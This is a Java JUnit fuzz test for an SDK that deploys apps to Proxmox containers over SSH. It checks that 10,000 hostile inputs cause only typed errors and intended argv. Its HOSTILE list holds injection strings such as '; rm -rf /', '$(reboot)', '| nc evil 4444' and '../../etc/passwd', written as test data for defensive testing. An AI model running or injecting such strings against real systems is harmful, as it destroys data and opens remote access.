package dev.proximity.tests;

import static org.assertj.core.api.Assertions.assertThat;

import dev.proximity.App;
import dev.proximity.AppHandle;
import dev.proximity.AppSummary;
import dev.proximity.Backup;
import dev.proximity.DeleteOption;
import dev.proximity.DeployPlan;
import dev.proximity.ProximityException;
import dev.proximity.Resources;
import dev.proximity.command.SafeCommand;
import dev.proximity.command.SafeCommandRefusedException;
import dev.proximity.internal.tasks.HostTaskWatch;
import dev.proximity.testkit.ssh.RecordedCommand;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.function.Supplier;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * Bad input: 10,000 seeded random and hostile values through every public entry point that takes
 * user text (app names for deploy, clone and restoreAs; catalog ids; deploy parameters; safe-command
 * names, parameters and actors; resources; backup volids; app lookups). Each call must end in a
 * typed error ({@link ProximityException}, or {@link IllegalArgumentException} from a documented
 * validation) or a valid result, and every command that reached the SSH simulator must be an argv
 * the SDK meant to send: one of the container contract's argv lists, or exactly the argv of the safe
 * command that was asked for.
 */
class BadInputFuzzTest {
  private static final int VALUES = 10_000;
  /** How many accepted values may really create a container (a deploy, clone or restore each). */
  private static final int REAL_CREATES = 2;
  private static final String APP_DIR = "/opt/proximity/app";
  private static final List<String> COMPOSE = List.of("docker", "compose", "--project-directory",
      APP_DIR, "-f", APP_DIR + "/compose.yaml");
  /** The argv lists of docs/container-contract.md and docs/safe-commands.md without parameters. */
  private static final Set<List<String>> CONTRACT = Set.of(
      List.of("mkdir", "-p", APP_DIR),
      List.of("mkdir", "-p", "/opt/proximity"),
      List.of("docker", "version", "--format", "{{.Server.Version}}"),
      List.of("sh", "/opt/proximity/install-docker.sh"),
      compose("up", "-d", "--remove-orphans"),
      compose("pull"),
      compose("down"),
      compose("ps", "--all", "--format", "json"),
      List.of("cat", APP_DIR + "/compose.yaml"),
      List.of("cat", APP_DIR + "/secrets.json"),
      List.of("cat", APP_DIR + "/manifest.json"),
      List.of("df", "-h"),
      List.of("ps", "-eo", "pid,ppid,user,pcpu,pmem,rss,etime,comm", "--sort=-pcpu"),
      List.of("free", "-m"),
      List.of("ip", "-brief", "address"),
      List.of("docker", "image", "ls"),
      List.of("docker", "volume", "ls"),
      List.of("uname", "-a"));
  private static final Set<String> PUSH_TARGETS = Set.of("/opt/proximity/install-docker.sh",
      APP_DIR + "/compose.yaml", APP_DIR + "/secrets.json", APP_DIR + "/manifest.json");
  /** The documented app name rule (an RFC 1123 label), as the user guide states it. */
  private static final Pattern LABEL = Pattern.compile("[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?");
  private static final Pattern PLAIN_WORD = Pattern.compile("[A-Za-z0-9_./:=,@%+{}-]+");

  private static final List<String> HOSTILE = List.of("", " ", "\t", "a b", "$(reboot)", "`id`",
      "; rm -rf /", "| nc evil 4444", "&& true", "x\ny", "x\u0000y", "'", "\"", "\\", "'; id; '",
      "--help", "-rf", "--follow", "-f /etc/shadow", "../../etc/passwd", "/etc/shadow", "~root",
      "${param:GREETING}", "${IFS}", "%s%n%x", "web\u202e", "\ufb01", "\u0130", "WEB", "web", "a-b",
      "-web", "web-", "0", "-1", "10001", "99999999999", "1e3", "0x10", "15m", "PT15M", "P2D",
      "31d", "0s", "1s", "web;id", "web$(id)", "a".repeat(63), "a".repeat(64), "*", "?", "{a,b}",
      "<script>", "local:backup/vzdump-lxc-100-2020_01_01-00_00_00.tar.zst", "local:backup/../x",
      "local:100/vm-100-disk-0.raw", "logs", "status", "config", "tail", "service", "since", "hello",
      "GREETING", "MESSAGE", "null", "nil", "\r\n", "\u00a0", "\ud83d\ude00", "web\u0000",
      "a=b", "x".repeat(10_000));
  private static final String ALPHABET = "abcz019-_.:/\\ ;|&$`'\"(){}[]<>*?~!#%^=+,\n\t\r\u0000"
      + "\u00e9\u0130\u202e\ufb01\u2028";

  enum Entry { NAME, CATALOG_ID, PARAMETER, PARSE, RUN, CLONE, RESTORE, RESOURCES, LOOKUP }

  /** Outcome counts per entry point. */
  static final class Tally {
    final Map<Entry, int[]> counts = new EnumMap<>(Entry.class);
    final List<String> untyped = new ArrayList<>();

    void ok(Entry e) {
      counts.computeIfAbsent(e, k -> new int[2])[0]++;
    }

    void refused(Entry e) {
      counts.computeIfAbsent(e, k -> new int[2])[1]++;
    }
  }

  @Test
  void everyUserTextEntryPoint_tenThousandHostileValues_typedErrorsAndOnlyIntendedArgv() {
    try (Cluster c = new Cluster("pve1")) {
      App base = c.px.deploy("hello").named("base").start();
      AppHandle handle = c.px.app(base.name());
      Backup backup = handle.backup("fuzz");
      Random random = new Random(10);
      Tally tally = new Tally();
      int[] creates = {0, 0};
      Set<List<String>> expected = new HashSet<>(CONTRACT);

      for (int n = 0; n < VALUES; n++) {
        int i = n;
        String v = value(random);
        Entry entry = Entry.values()[i % Entry.values().length];
        int before = c.ssh.containerCommands().size();
        Supplier<Object> call = switch (entry) {
          case NAME -> () -> {
            var spec = c.px.deploy("hello").named(v);
            return spec.plan();
          };
          case CATALOG_ID -> () -> c.px.deploy(v).plan();
          case PARAMETER -> () -> {
            String key = random.nextBoolean() ? "GREETING" : random.nextBoolean() ? "MESSAGE" : v;
            DeployPlan plan = c.px.deploy("hello").withParameter(key, v).plan();
            if (creates[0] < REAL_CREATES && !v.isBlank() && hostile(v)) {
              creates[0]++;
              App app = c.px.deploy("hello").named("p" + i).withParameter(key, v).start();
              app = c.px.app(app.name()).info();
              c.px.app(app.name()).delete(DeleteOption.FORCE);
            }
            return plan;
          };
          case PARSE -> () -> SafeCommand.parse(commandName(random, v), parameters(random, v));
          case RUN -> () -> {
            String name = commandName(random, v);
            Map<String, String> params = parameters(random, v);
            try {
              return handle.run(name, params, v);
            } finally {
              List<List<String>> sent = since(c, before);
              List<List<String>> meant = parsesTo(name, params);
              assertThat(sent).as("argv sent for %s %s", name, params).isEqualTo(meant);
              expected.addAll(meant);
            }
          };
          case CLONE -> () -> guarded(creates, () -> {
            App clone = handle.clone(v);
            c.px.app(clone.name()).delete(DeleteOption.FORCE);
            return clone;
          }, v);
          case RESTORE -> () -> {
            if (random.nextBoolean()) {
              return handle.restoreAs(v, "r" + i);
            }
            return guarded(creates, () -> {
              App restored = handle.restoreAs(backup.volid(), v);
              c.px.app(restored.name()).delete(DeleteOption.FORCE);
              return restored;
            }, v);
          };
          case RESOURCES -> () -> {
            Resources r = Resources.builder().cores(number(random)).memoryMb(number(random))
                .diskGb(number(random)).swapMb(number(random)).build();
            return c.px.deploy("hello").withResources(r).plan();
          };
          case LOOKUP -> () -> c.px.findApp(v);
        };
        try {
          assertThat(call.get()).as("%s result for %s", entry, shown(v)).isNotNull();
          tally.ok(entry);
        } catch (ProximityException | IllegalArgumentException e) {
          tally.refused(entry);
        } catch (AssertionError e) {
          throw e;
        } catch (RuntimeException e) {
          tally.untyped.add(entry + " " + shown(v) + ": " + e);
        }
        if (entry != Entry.RUN && entry != Entry.PARAMETER && entry != Entry.CLONE
            && entry != Entry.RESTORE) {
          assertThat(since(c, before)).as("%s of %s reached a container", entry, shown(v)).isEmpty();
        }
      }

      System.out.printf("bad-input fuzz: %d values, %d real creates%n", VALUES, creates[0] + creates[1]);
      tally.counts.forEach((e, n) -> System.out.printf("  %-10s valid %5d  typed refusal %5d%n", e,
          n[0], n[1]));
      assertThat(tally.untyped).as("untyped failures").isEmpty();
      for (List<String> argv : c.ssh.containerCommands()) {
        assertThat(expected).as("argv the SDK meant to send").contains(argv);
      }
      for (RecordedCommand rc : c.ssh.commands()) {
        assertHostCommandIsIntended(rc);
      }
      assertThat(c.pve.locks()).as("locks").isEmpty();
      assertThat(c.ssh.hostFiles("pve1")).as("temp files").isEmpty();
      assertThat(c.px.apps()).extracting(AppSummary::name).containsExactly("base");
    }
  }

  /** Host-side commands: {@code pct exec} (checked above), {@code pct push} to a contract path,
   * removing the upload's temp file, or the task watch (a constant argv; its input is numbers from
   * UPIDs); every other word plain, so no input became shell syntax. */
  private static void assertHostCommandIsIntended(RecordedCommand rc) {
    List<String> argv = rc.argv();
    assertThat(argv).as("parsed argv of %s", rc.line()).isNotEmpty();
    if (argv.equals(HostTaskWatch.argv())) {
      return;
    }
    if (argv.get(0).equals("pct") && argv.get(1).equals("exec")) {
      assertThat(argv.get(2)).matches("[0-9]+");
      assertThat(argv.get(3)).isEqualTo("--");
      return;
    }
    if (argv.get(0).equals("pct") && argv.get(1).equals("push")) {
      assertThat(argv.get(2)).matches("[0-9]+");
      assertThat(PUSH_TARGETS).contains(argv.get(4));
    } else {
      assertThat(argv.subList(0, Math.min(3, argv.size()))).isEqualTo(List.of("rm", "-f", "--"));
    }
    assertThat(argv).allSatisfy(w -> assertThat(w).matches(PLAIN_WORD));
  }

  private static List<String> compose(String... args) {
    List<String> argv = new ArrayList<>(COMPOSE);
    argv.addAll(List.of(args));
    return List.copyOf(argv);
  }

  private static List<List<String>> since(Cluster c, int before) {
    List<List<String>> all = c.ssh.containerCommands();
    return all.subList(before, all.size());
  }

  /** What a run of this command must send: its argv when it parses, nothing when refused. */
  private static List<List<String>> parsesTo(String name, Map<String, String> params) {
    try {
      return List.of(SafeCommand.parse(name, params).argv());
    } catch (SafeCommandRefusedException e) {
      return List.of();
    }
  }

  /**
   * Runs an operation that takes a new app name. An invalid name must be refused before anything is
   * created; a valid one really creates a container only while the budget lasts (then the value
   * counts as accepted without the call, to keep the test fast).
   */
  private static Object guarded(int[] creates, Supplier<Object> create, String name) {
    if (!LABEL.matcher(name).matches()) {
      return create.get();
    }
    if (creates[1] >= REAL_CREATES * 2) {
      return name;
    }
    creates[1]++;
    return create.get();
  }

  private static boolean hostile(String v) {
    return v.chars().anyMatch(ch -> "$`;|&\\(){}*?~!#".indexOf(ch) >= 0);
  }

  private static String commandName(Random random, String v) {
    int r = random.nextInt(10);
    if (r < 4) {
      return v;
    }
    List<String> names = new ArrayList<>(SafeCommand.names());
    names.sort(null);
    return r < 8 ? "logs" : names.get(random.nextInt(names.size()));
  }

  private static Map<String, String> parameters(Random random, String v) {
    Map<String, String> p = new LinkedHashMap<>();
    int r = random.nextInt(6);
    switch (r) {
      case 0 -> p.put("tail", v);
      case 1 -> p.put("service", v);
      case 2 -> p.put("since", v);
      case 3 -> p.put(v, "1");
      case 4 -> {
        p.put("tail", Integer.toString(1 + random.nextInt(100)));
        p.put("service", v);
      }
      default -> { }
    }
    return p;
  }

  private static int number(Random random) {
    int[] edges = {Integer.MIN_VALUE, -1, 0, 1, 2, 15, 16, 64, 512, 4096, 65_536, 1 << 20,
        Integer.MAX_VALUE};
    return random.nextInt(3) == 0 ? random.nextInt() : edges[random.nextInt(edges.length)];
  }

  /** A seeded value: a hostile classic, random characters, or a valid value with an injection. */
  static String value(Random random) {
    int r = random.nextInt(10);
    if (r < 3) {
      return HOSTILE.get(random.nextInt(HOSTILE.size()));
    }
    if (r < 7) {
      StringBuilder sb = new StringBuilder();
      int len = random.nextInt(r == 6 ? 300 : 20);
      for (int k = 0; k < len; k++) {
        sb.append(ALPHABET.charAt(random.nextInt(ALPHABET.length())));
      }
      return sb.toString();
    }
    String valid = List.of("web", "db", "app-1", "50", "15m", "logs", "hello").get(random.nextInt(7));
    String evil = HOSTILE.get(random.nextInt(HOSTILE.size()));
    int at = random.nextInt(valid.length() + 1);
    return valid.substring(0, at) + (evil.length() > 40 ? evil.substring(0, 40) : evil)
        + valid.substring(at);
  }

  private static String shown(String v) {
    String s = v.length() > 60 ? v.substring(0, 60) + "..." : v;
    StringBuilder sb = new StringBuilder("\"");
    s.codePoints().forEach(cp -> {
      if (cp < 0x20 || cp > 0x7e) {
        sb.append(String.format("\\u%04x", cp));
      } else {
        sb.append((char) cp);
      }
    });
    return sb.append('"').toString();
  }
}
